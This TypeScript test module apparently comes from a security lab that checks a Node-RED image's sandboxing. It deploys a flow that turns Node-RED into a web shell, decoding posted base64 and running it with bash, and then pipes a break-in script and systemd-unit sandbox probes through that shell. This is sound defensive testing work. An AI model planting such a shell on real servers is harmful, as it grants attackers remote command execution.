/** An attacker's shell in Node-RED's sandbox, and break-in.js run in it. */
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import path from 'node:path'
import type { LabClient } from '../lab/lab.ts'
import type { Attempts } from './attempts.ts'

/** Flows of somebody who may edit: what is posted to /app/shell, in base64, runs as node-red. */
export const shellFlows = [
  { id: 'f6f2187d.f17ca8', type: 'tab', label: 'Flow 1' },
  {
    id: 'in',
    type: 'http in',
    z: 'f6f2187d.f17ca8',
    url: '/shell',
    method: 'post',
    wires: [['run']],
  },
  {
    id: 'run',
    type: 'exec',
    z: 'f6f2187d.f17ca8',
    command: 'echo',
    addpay: 'payload',
    append: '| base64 -d | timeout -k 5 120 bash 2>&1; echo "[$?]"',
    useSpawn: 'false',
    timer: '',
    winHide: false,
    oldrc: false,
    wires: [['out'], [], []],
  },
  {
    id: 'out',
    type: 'http response',
    z: 'f6f2187d.f17ca8',
    statusCode: '',
    headers: {},
    wires: [],
  },
]

/** Deploys them, in place of all that is there. */
export async function deployShell(owner: LabClient, name: string): Promise<void> {
  const deployed = await owner.fetch(`https://${name}/flows`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'node-red-deployment-type': 'full' },
    body: JSON.stringify(shellFlows),
    timeout: 120_000,
  })
  assert.equal(deployed.status, 204, deployed.body.toString())
}

/** Runs a script in Node-RED's sandbox; its output, and `[<exit code>]`. */
export async function shell(
  owner: LabClient,
  name: string,
  script: string,
  timeout = 120,
): Promise<string> {
  const answer = await owner.fetch(`https://${name}/app/shell`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body: Buffer.from(script).toString('base64'),
    timeout: (timeout + 30) * 1000,
  })
  assert.equal(answer.status, 200, answer.body.toString())
  return answer.body.toString()
}

/** A script that runs one kind of break-in.js's attempts with these options. */
export async function breakIn(what: string, options: object): Promise<string> {
  const program = await readFile(path.join(import.meta.dirname, 'break-in.js'))
  return (
    `echo ${program.toString('base64')} | base64 -d | node ` +
    '--disable-warning=ExperimentalWarning - ' +
    `'${JSON.stringify({ what, options }).replaceAll("'", '')}'`
  )
}

/** Notes what break-in.js printed; how many attempts there were. */
export function noteAll(attempts: Attempts, from: string, output: string): number {
  const rows = output
    .split('\n')
    .filter((line) => line.startsWith('{'))
    .map((line) => JSON.parse(line) as { attempt: string; got: string; held: boolean })
  for (const { attempt, got, held } of rows) attempts.note(from, attempt, got, held)
  return rows.length
}

let attacks = 0

/**
 * A script for root that runs another one in the sandbox of a unit of the image. What that unit
 * shares with the real one is left out (a RuntimeDirectory would be removed with it). Prints what
 * the script wrote.
 *
 * @param as the program that reads the script, as the unit's user; systemd hands it over, so that
 *   nothing has to be in the sandbox for it
 * @param settings more lines of its [Service]
 * @param without settings of the unit that are left out as well
 */
export function inUnit(
  unit: string,
  script: string,
  {
    instance = '',
    as = '/bin/bash -s',
    settings = [] as readonly string[],
    without = [] as readonly string[],
  } = {},
): string {
  const gone = [
    'Type|NotifyAccess|Sockets|Restart.*|RuntimeDirectory.*|StateDirectory.*|CacheDirectory.*|WatchdogSec|Exec.*|SyslogIdentifier|Standard.*|WantedBy|FileDescriptorStore.*|OnSuccess|BindsTo|Condition.*|MemoryDenyWriteExecute',
    ...without,
  ].join('|')
  // Its lines in the journal are told by its name.
  const name = `attack-${++attacks}.service`
  const file = `/run/${name}.sh`
  const service = [
    'Type=oneshot',
    `ExecStart=${as}`,
    `StandardInput=file:${file}`,
    'StandardOutput=journal',
    'SyslogIdentifier=attack',
    ...settings,
  ].join('\\n')
  return `echo ${Buffer.from(script).toString('base64')} | base64 -d >${file}
    sed -E '/^(${gone})=/d; /^After=sys-subsystem/d; s#%I#${instance}#g; s#^\\[Service\\]#[Service]\\n${service}#' '/usr/lib/systemd/system/${unit}' >/run/systemd/system/${name}
    systemctl daemon-reload; systemctl start ${name}; journalctl -q --sync
    journalctl -q -o cat _SYSTEMD_UNIT=${name}
    systemctl show -P Result ${name}; rm /run/systemd/system/${name} ${file}; systemctl daemon-reload`
}
